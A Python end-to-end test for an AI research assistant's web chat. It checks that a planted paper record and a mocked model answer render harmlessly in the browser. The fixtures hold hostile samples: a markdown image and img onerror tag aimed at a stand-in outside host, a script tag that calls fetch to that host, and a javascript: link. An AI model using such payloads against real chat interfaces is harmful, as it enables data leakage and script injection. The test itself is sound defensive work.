"""A hostile abstract in the real web chat: its image, script and javascript: link stay inert, nothing leaves.

`assistant serve` in a subprocess over one injected record, Debian's Chromium recording every request the page
makes; the mocked model also tries to show a remote image.
"""

from __future__ import annotations

import json
import os

import pytest
from conftest import run_cli, write_jsonl
from test_web_e2e import ASSISTANT_MESSAGE, CHROMIUM, Server, browser, open_page  # noqa: F401 - browser: a fixture

OUTSIDE = "198.51.100.7"  # TEST-NET-2: not this machine, never reachable
TITLE = "Zorblax: Quantizing Narwhal Transformers with Sonar Codebooks"
ABSTRACT = (f"We present Zorblax, which quantizes narwhal transformers with sonar codebooks. "
            f"![chart](http://{OUTSIDE}/leak.png?q=panel) <img src=http://{OUTSIDE}/onerror.png onerror=alert(1)> "
            f"<script>fetch('http://{OUTSIDE}/script')</script> Zorblax halves the memory of narwhal models.")
MOCK_ANSWER = f"Zorblax quantizes narwhal transformers with sonar codebooks [1]. ![y](http://{OUTSIDE}/answer.png)"

pytestmark = pytest.mark.skipif(not os.path.exists(CHROMIUM), reason="needs Debian's chromium (scripts/test.sh)")


@pytest.fixture(scope="module")
def hostile_server(tmp_path_factory):
    root = tmp_path_factory.mktemp("hostile")
    record = {"title": TITLE, "abstract": ABSTRACT, "url": f"javascript:fetch('http://{OUTSIDE}/url')",
              "code_url": "https://github.com/zorblax/narwhal"}
    assert run_cli("ingest", str(write_jsonl(root / "hostile.jsonl", [record])), data_dir=root / "data").code == 0
    env = {k: v for k, v in os.environ.items() if not k.startswith("ASSISTANT_")}
    env.update({"ASSISTANT_DATA_DIR": str(root / "data"), "ASSISTANT_LLM_MODEL": "openai/gpt-4o-mini",
                "ASSISTANT_LLM_EXTRA": json.dumps({"mock_response": MOCK_ANSWER}), "ASSISTANT_LLM_NUM_RETRIES": "0",
                "ASSISTANT_LLM_CONDENSE": "heuristic"})
    running = Server(root / "data", env).start()
    yield running
    running.stop()


def test_an_injected_abstract_is_rendered_inert_with_zero_non_local_requests(hostile_server, browser):  # noqa: F811
    outside: list[str] = []
    page = open_page(browser, hostile_server.url, outside)
    page.fill("#chat-input", "How does Zorblax quantize narwhal transformers?")
    page.keyboard.press("Enter")
    answer = page.locator(ASSISTANT_MESSAGE).last
    answer.locator("a.element-link", has_text="[1]").first.wait_for(timeout=90_000)
    assert "link to 198.51.100.7" in answer.inner_text()  # the model's image became words

    answer.locator("a.element-link", has_text="[1]").first.click()
    panel = page.locator("#side-view-content")
    panel.wait_for(timeout=10_000)
    text = panel.inner_text(timeout=10_000)
    assert "leak.png?q=panel" in text and "<script>" in text  # shown as text, not obeyed
    page.wait_for_timeout(1500)  # time for any image or script to fire
    assert page.locator(f"img[src*='{OUTSIDE}']").count() == 0
    assert page.locator("a[href^='javascript']").count() == 0 and page.locator("script", has_text=OUTSIDE).count() == 0
    assert "github.com/zorblax/narwhal" in text
    assert outside == []
